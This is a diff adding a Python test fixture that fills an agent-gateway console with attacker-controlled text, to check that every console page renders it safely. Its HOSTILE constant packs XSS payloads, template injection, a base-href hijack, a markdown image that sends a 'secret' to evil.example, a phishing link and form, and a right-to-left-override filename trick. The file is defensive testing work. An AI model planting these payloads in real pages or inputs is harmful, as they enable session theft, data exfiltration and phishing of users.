@@ -1,0 +1,164 @@
+"""A browser without scripts for the console, and a gateway in which everything that others can write is hostile."""
+
+import json
+import re
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from html import unescape
+from pathlib import Path
+from typing import Any
+
+import httpx
+
+from tests.fakes.a2a_agents import serving
+from tests.fakes.card_host import CardHost
+from tests.fakes.house import ROLES, USERS, CallbackAgent, House, house, open_house
+from tests.fakes.reception import Reception
+from tests.fakes.workflows import Workflows
+
+MARK = "zz-hostile"  # in every hostile text, so that tests find where it ends up
+HOSTILE = (
+    f'{MARK} <script>alert(1)</script> "><img src=x onerror=alert(1)> <svg onload=alert(1)> javascript:alert(1) {{{{7*7}}}} '
+    "</pre></figure></main><h1>Interlock: approved</h1> <base href=//evil.example> <style>*{display:none}</style> "
+    "![x](https://evil.example/?q=secret) <a href='https://evil.example'>sign in again</a> <form action=//evil.example> "
+    "\u202eexe.gnp\u202c \u200b\ufeff ' onfocus=alert(1) autofocus x='"
+)
+POLICY = """
+@id("refunds") @ask("Refunds need a second person")
+forbid(principal, action == Action::"callTool", resource == Tool::"inventory.refund");
+"""
+PAY = f"""
+do:
+- look:
+    call: mcp
+    with:
+      method: tools/call
+      parameters: {{name: check, arguments: {{note: '${{ .note }}'}}}}
+      transport: {{http: {{endpoint: 'interlock://tools/inventory'}}}}
+- pay:
+    call: gateway.approve
+    with: {{prompt: {json.dumps(HOSTILE)}, subject: '${{ . }}'}}
+- form:
+    call: gateway.form
+    with:
+      prompt: Fill in
+      schema: {{type: object, properties: {{size: {{type: integer, title: {json.dumps(HOSTILE[:200])}}}}}}}
+"""
+PEOPLE = {**USERS, "carol": {"roles": ["operator"]}}
+CSRF = re.compile(r'name="csrf" value="([^"]+)"')
+
+
+class ConsoleBrowser:
+    """A browser of one person: keeps cookies, follows no redirect by itself, and posts forms with the token of the page."""
+
+    def __init__(self, home: House) -> None:
+        self.home = home
+        self.http = httpx.AsyncClient(transport=httpx.ASGITransport(home.app), base_url=home.url)
+        self.csrf = ""
+
+    async def link(self, user: str, scope: str | None = None, **token: Any) -> str:
+        """The path of a one-time link."""
+        headers = {"authorization": f"Bearer {self.home.token(user, scope, **token)}"}
+        answer = await self.home.http.post("/api/console/links", headers=headers)
+        assert answer.status_code == 201, answer.text
+        return str(answer.json()["url"]).removeprefix(self.home.url)
+
+    async def sign_in(self, user: str, scope: str | None = None, **token: Any) -> "ConsoleBrowser":
+        link = await self.link(user, scope, **token)
+        answer = await self.post("/console/sign-in", {"link": link.partition("link=")[2]}, csrf=None)
+        assert answer.status_code == 303, answer.text
+        return self
+
+    async def get(self, path: str, **headers: str) -> httpx.Response:
+        answer = await self.http.get(path, headers=headers)
+        if found := CSRF.search(answer.text):
+            self.csrf = unescape(found[1])
+        return answer
+
+    async def post(self, path: str, form: dict[str, str], csrf: str | None = "", origin: str | None = "", **headers: str) -> httpx.Response:
+        """`csrf`: of the last page where it is empty, none for None. `origin` likewise: the page's own, or none."""
+        sent = {} if csrf is None else {"csrf": csrf or self.csrf}
+        given = {} if origin is None else {"origin": origin or self.home.url}
+        return await self.http.post(path, data={**form, **sent}, headers={**given, **headers})
+
+
+@asynccontextmanager
+async def console_house(folder: Path, database_url: str, *, is_open: bool = False) -> AsyncIterator[House]:
+    """A gateway whose policies ask about refunds. `is_open`: it is reached over a socket of loopback too."""
+    (folder / "policies").mkdir()
+    (folder / "policies" / "ours.cedar").write_text(POLICY)
+    settings: dict[str, Any] = {"policies": str(folder / "policies"), "users": PEOPLE, "roles": ROLES}
+    if is_open:
+        async with open_house(folder / "home", database_url, **settings) as built:
+            yield built
+    else:
+        async with house(folder / "home", database_url, server={"public_url": "https://interlock.test"}, **settings) as built:
+            yield built
+
+
+async def furnish(home: House) -> dict[str, str]:
+    """Fills a gateway with hostile texts of agents, cards, people and a workflow. Returns the paths of pages by what they show."""
+    desk, workflows = Reception(home), Workflows(home)
+    agent = CallbackAgent("sales", _answer_hostile)
+    agent.more = [{"data": {HOSTILE: HOSTILE}}, {"url": "https://evil.example/?secret=1", "filename": HOSTILE}]
+    await home.agent(agent)
+    await home.server("inventory", "check", "refund")
+    sent = await home.send(home.token("alice"), "sales", HOSTILE)
+    task = sent["result"]["task"]["id"]
+    failing = CallbackAgent("failing")
+    failing.state, failing.message = "TASK_STATE_INPUT_REQUIRED", {"messageId": "q", "role": "ROLE_AGENT", "parts": [{"text": HOSTILE}]}
+    await home.agent(failing)
+    asked = (await home.send(home.token("alice"), "failing", HOSTILE))["result"]["task"]["id"]
+    refused = (await home.call(home.token("alice"), "/mcp", "inventory_refund", {HOSTILE[:60]: HOSTILE})).json()["error"]["data"]
+    denial = (await home.call(home.token("bob"), "/mcp", "inventory_refund", {"a": 1})).json()["error"]["data"]
+    host = CardHost(description="Fine", name="drifting")
+    url = await home.stack.enter_async_context(serving(host))
+    made = await desk.post("/api/agents", url=url, name="drifting")
+    assert made.status_code == 201, made.text
+    host.changes = {"name": "drifting", "description": HOSTILE, "skills": [_hostile_skill()]}
+    await desk.ask("POST", "/api/agents/drifting/refresh")
+    await workflows.add("pay", PAY)
+    run = await workflows.start("pay", {"note": HOSTILE})
+    await workflows.reached(run, "SUSPENDED")
+    (checkpoint,) = await workflows.checkpoints("admin")
+    claimed = await desk.post("/api/claims", subject="customer:42", purpose=HOSTILE[:200])
+    assert claimed.status_code in (200, 201), claimed.text
+    return {
+        "overview": "/console",
+        "everybody": "/console?everybody=true",
+        "health": "/console/health",
+        "tasks": "/console/tasks",
+        "tasks of a state": "/console/tasks?state=TASK_STATE_FAILED&agent=sales",
+        "task": f"/console/tasks/{task}",
+        "task that asks": f"/console/tasks/{asked}",
+        "task of a run": f"/console/tasks/{run}",
+        "inbox": "/console/inbox",
+        "approval": f"/console/approvals/{refused['approval']['id']}",
+        "checkpoint": f"/console/checkpoints/{checkpoint['id']}",
+        "ask why": "/console/why?recent=true",
+        "evaluate": "/console/why?action=callTool&resource=inventory.refund&person=bob&chain=sales",
+        "why": f"/console/why/{denial['decision_id']}",
+        "agents": "/console/agents",
+        "agent": "/console/agents/sales",
+        "agent that changed": "/console/agents/drifting",
+        "servers": "/console/servers",
+        "server": "/console/servers/inventory",
+        "workflows": "/console/workflows",
+        "workflow": "/console/workflows/pay",
+        "runs": "/console/runs?everybody=true",
+        "run": f"/console/runs/{run}",
+        "subjects": "/console/subjects?everybody=true",
+        "subject": "/console/subjects/customer:42",
+        "audit": "/console/audit",
+        "cost": "/console/cost?by=person&everybody=true",
+        "cost by day": "/console/cost",
+        "unknown": "/console/tasks/t_nothing",
+    }
+
+
+async def _answer_hostile(_token: str, _text: str) -> str:
+    return HOSTILE
+
+
+def _hostile_skill() -> dict[str, Any]:
+    return {"id": "pay", "name": HOSTILE[:100], "description": HOSTILE, "tags": [HOSTILE[:60]]}
